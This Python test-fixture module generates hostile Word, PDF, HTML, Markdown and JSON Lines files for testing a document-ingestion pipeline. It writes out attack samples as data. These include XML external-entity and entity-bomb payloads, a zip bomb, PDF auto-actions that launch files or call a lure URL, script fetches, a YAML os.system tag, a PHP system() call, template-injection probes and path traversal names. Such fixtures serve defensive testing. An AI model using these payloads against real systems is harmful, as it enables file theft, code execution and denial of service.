"""Hostile files, made from a seed: encodings, archives, markup, JSON Lines. Each names what must become of it."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from random import Random

from docx import Document as WordDocument

READ, NAMED, EITHER = "read", "named", "read or named"
"""The file's text becomes a document; the file is named as failed, with its reason; either, but always one of them."""


@dataclass(frozen=True)
class Lure:
    """Where an input tries to reach: a server that nobody may call, a file that nobody may open."""

    url: str
    file: str


@dataclass(frozen=True)
class HostileFile:
    """A kind of hostile file: `make` gives the bytes of one of its `count` variants; `ending` is its name's."""

    family: str
    what: str
    ending: str
    outcome: str
    count: int
    make: Callable[[Random, Lure], bytes]


STORY = "Perú hosts the Conference of Defense Ministers in Lima. Ana Ruiz attends it, “of course”. "


def noise(random: Random, size: int = 400) -> bytes:
    return random.randbytes(size)


def flipped(random: Random, data: bytes, bytes_: int = 12) -> bytes:
    changed = bytearray(data)
    for _ in range(bytes_):
        changed[random.randrange(len(changed))] = random.randrange(256)
    return bytes(changed)


def cut(random: Random, data: bytes) -> bytes:
    return data[: random.randrange(20, len(data) - 20)]


def sprinkled(random: Random, marks: str) -> bytes:
    return "".join(c + random.choice(marks) if random.random() < 0.2 else c for c in STORY * 2).encode()


# ---------------------------------------------------------------------------------------------- Word, PDF


def zipped(parts: dict[str, bytes], names: dict[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr((names or {}).get(name, name), data)
    return out.getvalue()


def word_parts() -> dict[str, bytes]:
    out = io.BytesIO()
    document = WordDocument()
    document.add_paragraph(STORY)
    document.save(out)
    with zipfile.ZipFile(out) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def word(body: bytes | None = None, declaration: bytes = b"", relations: bytes = b"", more: bytes = b"") -> bytes:
    parts = word_parts()
    main, links = "word/document.xml", "word/_rels/document.xml.rels"
    text = parts[main]
    if declaration:
        text = text.replace(b"?>", b"?>" + declaration, 1)
    if body is not None:
        text = text.replace("Perú".encode(), body, 1)
    parts[main] = text
    parts[links] = parts[links].replace(b"</Relationships>", relations + b"</Relationships>")
    if more:
        parts["word/more.bin"] = more
    return zipped(parts)


def entity(kind: str, target: str) -> bytes:
    return f'<!DOCTYPE x [<!ENTITY {kind} SYSTEM "{target}">]>'.encode()


LAUGHS = b"".join(
    [b"<!DOCTYPE x [<!ENTITY a0 'ha'>"]
    + [b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)]
    + [b"]>"]
)


def outside(url: str, kind: str) -> bytes:
    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationship Id="rId99" Type="{space}/{kind}" Target="{url}" TargetMode="External"/>'.encode()


def pdf(extra: str = "", page: str = "", kids: str = "4 0 R", stream: bytes | None = None, filters: str = "") -> bytes:
    shown = stream if stream is not None else b"BT /F1 11 Tf 50 750 Td (Peru hosts the conference in Lima.) Tj ET"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {extra} >>".encode(),
        f"<< /Type /Pages /Kids [{kids}] /Count 1 >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 5 0 R {page}"
        " /Resources << /Font << /F1 3 0 R >> >> >>".encode(),
        f"<< /Length {len(shown)} {filters} >>\nstream\n".encode() + shown + b"\nendstream",
    ]
    data, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    head = b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, table)
    return data + head + b"trailer << /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(data)


def acting(random: Random, lure: Lure) -> bytes:
    action = random.choice(
        [
            f"/S /JavaScript /JS (app.launchURL('{lure.url}'))",
            f"/S /Launch /F ({lure.file})",
            f"/S /URI /URI ({lure.url})",
            f"/S /SubmitForm /F << /FS /URL /F ({lure.url}) >>",
            f"/S /GoToR /F ({lure.file}) /D [0 /Fit]",
        ]
    )
    return pdf(extra=f"/OpenAction << {action} >>", page=f"/AA << /O << {action} >> >>")


# ---------------------------------------------------------------------------------------------- markup


def page(inside: str, head: str = "") -> bytes:
    return (
        f"<!doctype html><html><head><title>T</title>{head}</head><body><p>{STORY}</p>{inside}</body></html>".encode()
    )


def fetching(random: Random, lure: Lure) -> bytes:
    tag = random.choice(
        [
            "<img src='{}'>", "<script src='{}'></script>", "<iframe src='{}'></iframe>", "<object data='{}'></object>",
            "<embed src='{}'>", "<video src='{}' poster='{}'></video>", "<svg><image href='{}'/></svg>",
            "<div style=\"background:url('{}')\">x</div>", "<form action='{}'><input autofocus></form>",
        ]
    )  # fmt: skip
    return page(tag.replace("{}", random.choice([lure.url, "file://" + lure.file])))


def leading(random: Random, lure: Lure) -> bytes:
    head = random.choice(
        [
            "<meta http-equiv='refresh' content='0;url={}'>", "<base href='{}'>", "<link rel='stylesheet' href='{}'>",
            "<link rel='canonical' href='{}'>", "<style>@import '{}';</style>", "<link rel='prefetch' href='{}'>",
        ]
    )  # fmt: skip
    return page("", head.replace("{}", lure.url))


def scripted(random: Random, lure: Lure) -> bytes:
    return page(
        random.choice(
            [
                f"<script>fetch('{lure.url}')</script>",
                f"<p onclick=\"fetch('{lure.url}')\">x</p>",
                f"<a href=\"javascript:fetch('{lure.url}')\">x</a>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "<template><script>alert(1)</script></template>",
                "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
                "<?php system('id'); ?>",
            ]
        )
    )


def xhtml(declaration: bytes, body: bytes) -> bytes:
    return (
        b"<?xml version='1.0'?>" + declaration + b"<html><body><p>Peru hosts the talks. " + body + b"</p></body></html>"
    )


def nested(random: Random, _: Lure) -> bytes:
    tag, depth = random.choice(["div", "b", "table", "blockquote", "ul"]), random.choice([3_000, 20_000])
    return page(f"<{tag}>" * depth + "deep" + f"</{tag}>" * random.choice([0, depth]))


def marked(random: Random, lure: Lure) -> bytes:
    return random.choice(
        [
            f"# Peru\n\n![x]({lure.url}) [y]({lure.file}) {STORY}\n",
            f"---\ntitle: !!python/object/apply:os.system ['touch {lure.file}']\n---\n{STORY}",
            f"---\ntitle: 'a\ndate: 9999-99-99\n---\n{STORY}",
            "---\n" * 300 + STORY,
            f"{'>' * 20_000} {STORY}",
            f"<script>fetch('{lure.url}')</script>\n\n{STORY}",
        ]
    ).encode()


# ---------------------------------------------------------------------------------------------- JSON Lines


def bad_lines(random: Random, _: Lure) -> bytes:
    """Five lines of which each must be told apart: a document or a failure of its own."""
    values = [
        '{"id": "a", "text": ',
        '{"id": "a", "id": "b", "text": "Twice."}',
        '{"id": "x", "text": NaN}',
        '{"id": 1e999, "text": "x"}',
        '{"id": {"$ne": null}, "text": "x"}',
        '{"id": "../../etc/passwd", "text": "Peru hosts."}',
        '{"id": "\\u0000", "text": "Peru hosts."}',
        '{"id": "\\ud800", "text": "half"}',
        '{"id": "c", "text": "\\udfff"}',
        '{"id": "d", "text": "x", "date": "2025-02-30"}',
        '{"id": "e", "text": "x", "date": "0000-00-00"}',
        '{"id": "f", "text": ["x"]}',
        '{"__proto__": {"id": "g"}, "text": "x"}',
        "[" * 5_000,
        '{"a":' * 5_000,
        "null",
        '"id"',
        "-0",
        '{"id": "h", "text": "x"} {"id": "i", "text": "y"}',
        "{'id': 'j', 'text': 'single'}",
        '{"id": "' + "k" * 70_000 + '", "text": "Peru hosts."}',
        '{"id": "l", "text": "' + "\\u202e" * 2_000 + '"}',
        '{"id": "m", "text": "x", "source": "javascript:alert(1)"}',
        '{"id": "n", "text": "x", "title": "</script><script>alert(1)</script>"}',
        f'{{"id": {"9" * 6_000}, "text": "long number"}}',
    ]
    return "\n".join(random.sample(values, 5)).encode() + b"\n"


def json_once(random: Random, _: Lure) -> bytes:
    row = json.dumps({"id": "a", "text": STORY})
    return random.choice(
        [f"[{row}]".encode(), json.dumps({"id": "a", "text": STORY}, indent=1).encode(), b"\x1f\x8b" + row.encode(),
         row.encode("utf-16-le"), row.encode("cp1252"), b"\0" * 300, b"\n" * 5_000]
    )  # fmt: skip


ENCODINGS = "encodings"
ARCHIVES = "archives and containers"
MARKUP = "markup"
LINES = "JSON Lines"

HOSTILE_FILES = (
    HostileFile(ENCODINGS, "random bytes", ".txt", EITHER, 8, lambda r, _: noise(r)),
    HostileFile(ENCODINGS, "UTF-8 cut within a character", ".txt", NAMED, 3, lambda r, _: STORY.encode() + b"\xe2\x80"),
    HostileFile(ENCODINGS, "overlong forms and surrogates in UTF-8", ".txt", EITHER, 4,
                lambda r, _: STORY.encode() + 3 * r.choice([b"\xc0\xaf", b"\xed\xa0\x80", b"\xf5\x80\x80", b"\xfe"])),
    HostileFile(ENCODINGS, "the mark of another encoding", ".txt", EITHER, 5,
                lambda r, _: r.choice([b"\xff\xfe", b"\xfe\xff", b"\xff\xfe\0\0", b"\0\0\xfe\xff"]) + STORY.encode()
                + b"x" * r.randrange(4)),
    HostileFile(ENCODINGS, "NUL among the letters", ".txt", EITHER, 3, lambda r, _: sprinkled(r, "\0")),
    HostileFile(ENCODINGS, "escape sequences for terminals", ".txt", READ, 3,
                lambda r, _: sprinkled(r, "\x1b") + b"\x1b]0;title\x07\x1b[2J"),
    HostileFile(ENCODINGS, "marks that turn, hide or join letters", ".txt", READ, 5,
                lambda r, _: sprinkled(r, "\u202e\u2066\u200b\u200d\ufeff\u00ad\u0301\u2028\x85")),
    HostileFile(ENCODINGS, "letters of an unnamed code page", ".txt", EITHER, 4,
                lambda r, _: "Łódź, Übermut, ñandú und Straße".encode(
                    r.choice(["cp1250", "cp437", "mac_roman", "utf-7"]), "replace") * 4),
    HostileFile(ENCODINGS, "thousands of accents on one letter", ".txt", READ, 2,
                lambda r, _: ("Peru" + "\u0301" * 20_000 + " hosts.").encode()),
    HostileFile(ENCODINGS, "one word of 200,000 letters", ".txt", READ, 2,
                lambda r, _: r.choice(b"aZ").to_bytes() * 200_000),
    HostileFile(ARCHIVES, "zip bomb as .docx", ".docx", NAMED, 3,
                lambda r, _: word(more=b"\0" * r.randrange(20_000_000, 30_000_000))),
    HostileFile(ARCHIVES, "external entity in .docx", ".docx", EITHER, 4,
                lambda r, lure: word(b"&x;", entity("x", r.choice([lure.url, "file://" + lure.file])))),
    HostileFile(ARCHIVES, "parameter entity in .docx", ".docx", EITHER, 2,
                lambda r, lure: word(declaration=f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{lure.url}"> %p;]>'.encode())),
    HostileFile(ARCHIVES, "entities that multiply in .docx", ".docx", NAMED, 1, lambda r, _: word(b"&a9;", LAUGHS)),
    HostileFile(ARCHIVES, "remote template, picture or frame in .docx", ".docx", READ, 4,
                lambda r, lure: word(relations=outside(lure.url, r.choice(["attachedTemplate", "image", "frame"])))),
    HostileFile(ARCHIVES, "parts named ../ in .docx", ".docx", READ, 2,
                lambda r, lure: zipped({**word_parts(), "../" * 5 + lure.file.strip("/"): b"x"})),
    HostileFile(ARCHIVES, ".docx cut off", ".docx", NAMED, 4, lambda r, _: cut(r, word())),
    HostileFile(ARCHIVES, ".docx with changed bytes", ".docx", EITHER, 8, lambda r, _: flipped(r, word())),
    HostileFile(ARCHIVES, "compressed files named .txt", ".txt", NAMED, 4,
                lambda r, _: r.choice([gzip.compress, bz2.compress, lzma.compress, lambda d: zipped({"a.txt": d})])(
                    STORY.encode())),
    HostileFile(ARCHIVES, "PDF that runs, opens or sends something", ".pdf", READ, 8, acting),
    HostileFile(ARCHIVES, "PDF cut off", ".pdf", NAMED, 4, lambda r, _: cut(r, pdf())),
    HostileFile(ARCHIVES, "PDF with changed bytes", ".pdf", EITHER, 8, lambda r, _: flipped(r, pdf())),
    HostileFile(ARCHIVES, "PDF whose pages hold each other", ".pdf", NAMED, 2,
                lambda r, _: pdf(kids=r.choice(["2 0 R", "2 0 R 2 0 R"]))),
    HostileFile(ARCHIVES, "PDF without a text layer", ".pdf", NAMED, 1, lambda r, _: pdf(stream=b"0 0 m 9 9 l S")),
    HostileFile(MARKUP, "pages that fetch pictures, frames, media", ".html", READ, 9, fetching),
    HostileFile(MARKUP, "pages that lead elsewhere", ".html", READ, 6, leading),
    HostileFile(MARKUP, "scripts, handlers and templates", ".html", READ, 8, scripted),
    HostileFile(MARKUP, "external entities in XHTML", ".xhtml", EITHER, 4,
                lambda r, lure: xhtml(entity("x", r.choice([lure.url, "file://" + lure.file])), b"&x;")),
    HostileFile(MARKUP, "entities that multiply in XHTML", ".xhtml", EITHER, 1, lambda r, _: xhtml(LAUGHS, b"&a9;")),
    HostileFile(MARKUP, "thousands of elements within each other", ".html", EITHER, 4, nested),
    HostileFile(MARKUP, "a page that is never closed", ".html", EITHER, 4, lambda r, _: cut(r, page("<p>x</p>" * 20))),
    HostileFile(MARKUP, "a page in another encoding than it says", ".html", EITHER, 3,
                lambda r, _: page("", "<meta charset='utf-8'>").decode().encode(
                    r.choice(["cp1252", "utf-16", "utf-32"]))),
    HostileFile(MARKUP, "Markdown with links, tags, metadata to be run", ".md", READ, 8, marked),
    HostileFile(LINES, "five broken or odd lines of 25 kinds", ".jsonl", EITHER, 20, bad_lines),
    HostileFile(LINES, "no lines of JSON at all", ".jsonl", EITHER, 6, json_once),
)  # fmt: skip
